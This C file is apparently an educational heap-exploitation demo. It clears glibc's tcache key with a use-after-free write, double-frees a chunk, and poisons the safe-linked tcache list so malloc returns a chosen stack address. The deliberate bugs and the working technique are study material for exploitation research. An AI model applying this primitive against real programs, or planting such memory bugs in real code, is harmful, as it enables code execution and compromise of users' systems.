/* Tcache double free past the tcache key check (glibc >= 2.29), then tcache poisoning.
 * Published: how2heap tcache_dup (glibc < 2.29) and its bypass once e->key was added:
 * clear the key with a use after free write (CTF Wiki, "Tcache attack: tcache double free";
 * glibc commit bcdaad21d4635931 added the key).
 * Primitive: UAF write (clear tcache key) + double free -> malloc returns a chosen address. */
#include <stdint.h>
#include "common.h"

int main(void) {
    test_init();
    printf("tcache key bypass: clear the key, free twice, poison next\n");
    uint64_t target[4] __attribute__((aligned(16))) = {0};
    uint64_t *x = malloc(0x48), *a = malloc(0x48);
    print_ptr("victim", a);
    free(x);
    free(a);
    a[1] = 0; /* BUG: write after free: wipes the tcache key that flags "already freed" */
    free(a);  /* BUG: double free; the bin is now a -> a -> x */
    uint64_t *b = malloc(0x48); /* a, still on the bin */
    b[0] = ((uint64_t)(uintptr_t)b >> 12) ^ (uint64_t)(uintptr_t)target;
    malloc(0x48); /* a again; target is now the head */
    uint64_t *c = malloc(0x48);
    print_ptr("returned", c);
    if (c == target)
        printf("ATTACK SUCCEEDED: malloc returned the attacker's address\n");
    else
        printf("attack failed: malloc returned a fresh object\n");
    return 0;
}
